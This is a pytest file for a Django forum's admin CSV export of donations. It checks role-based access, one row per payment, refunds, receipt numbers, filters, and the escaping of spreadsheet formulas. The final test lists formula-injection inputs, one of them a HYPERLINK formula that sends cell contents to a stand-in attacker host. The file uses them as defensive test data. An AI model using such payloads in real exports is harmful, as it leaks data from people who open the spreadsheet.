"""The donations CSV: one row per payment, amounts in major units beside their currency, the
refund and the receipt number; only what the list's filters show; for editors and superusers
only; and nothing a spreadsheet would run as a formula."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse

from forum.donations.models import Payment
from tests import factories

EXPORT = reverse("admin:donations_donation_export")
CHANGELIST = reverse("admin:donations_donation_changelist")
ROLES = factories.ROLES
OUTCOMES = ("login", "login", 403, 200, 200)


def rows_of(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.fixture
def editor_client(client, editor):
    client.force_login(editor)
    return client


@pytest.mark.parametrize(("role", "expected"), list(zip(ROLES, OUTCOMES, strict=True)))
def test_the_export_is_for_editors_and_superusers(db, role, expected):
    donation = factories.create_donation()
    client = factories.client_as(role)

    by_link = client.get(EXPORT)
    by_action = client.post(CHANGELIST, {"action": "export_csv", "_selected_action": [donation.pk]})

    for response in (by_link, by_action):
        if expected == "login":
            assert response.status_code == 302
            assert response["Location"].startswith(reverse("admin:login"))
        elif expected == 403:
            assert response.status_code == 403
        else:
            assert response.status_code == 200
            assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_each_payment_is_a_row_with_its_receipt_amount_and_refund(editor_client):
    monthly = factories.create_donation(
        name="Lena Ortiz", email="lena@example.org", kind="monthly", status="active", amount=500
    )
    Payment.objects.create(
        donation=monthly,
        provider_id="in_dev_second",
        amount=500,
        currency="GBP",
        paid_at=monthly.payments.get().paid_at + timedelta(days=31),
        refunded_amount=250,
        refunded_at=monthly.payments.get().paid_at + timedelta(days=32),
    )
    factories.create_donation(name="Jo Park", amount=123456, currency="EUR", status="refunded")
    factories.create_donation(name="Never Paid", status="pending")

    response = editor_client.get(EXPORT)

    assert response["Content-Disposition"].startswith('attachment; filename="donations-')
    rows = rows_of(response)
    # Oldest payment first: the second month of Lena's gift is paid last.
    assert [row["name"] for row in rows] == ["Lena Ortiz", "Jo Park", "Lena Ortiz"]
    first, refunded, second = rows
    payment = monthly.payments.order_by("pk").first()
    assert first["receipt number"] == payment.receipt_number
    assert first["email"] == "lena@example.org"
    assert (first["kind"], first["amount"], first["currency"]) == ("Monthly", "5.00", "GBP")
    assert (first["refunded"], first["status"]) == ("", "Monthly, active")
    assert (second["refunded"], second["provider's payment id"]) == ("2.50", "in_dev_second")
    assert (refunded["amount"], refunded["currency"], refunded["refunded"]) == (
        "1234.56",
        "EUR",
        "1234.56",
    )
    assert refunded["status"] == "Refunded"
    assert refunded["refunded at"]


def test_the_export_follows_the_lists_search_and_filters(editor_client):
    factories.create_donation(name="Amal Reyes", kind="monthly", status="active")
    factories.create_donation(name="Amal Other")
    factories.create_donation(name="Bruno Kay", kind="monthly", status="active")

    rows = rows_of(editor_client.get(EXPORT, {"q": "Amal", "kind__exact": "monthly"}))

    assert [row["name"] for row in rows] == ["Amal Reyes"]


def test_the_export_action_takes_the_ticked_gifts(editor_client):
    chosen = factories.create_donation(name="Chosen")
    factories.create_donation(name="Not ticked")

    response = editor_client.post(
        CHANGELIST, {"action": "export_csv", "_selected_action": [chosen.pk]}
    )

    assert [row["name"] for row in rows_of(response)] == ["Chosen"]


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_nothing_a_donor_typed_runs_as_a_formula_in_a_spreadsheet(editor_client, typed):
    factories.create_donation(name=typed)

    (row,) = rows_of(editor_client.get(EXPORT))

    assert row["name"] == "'" + typed
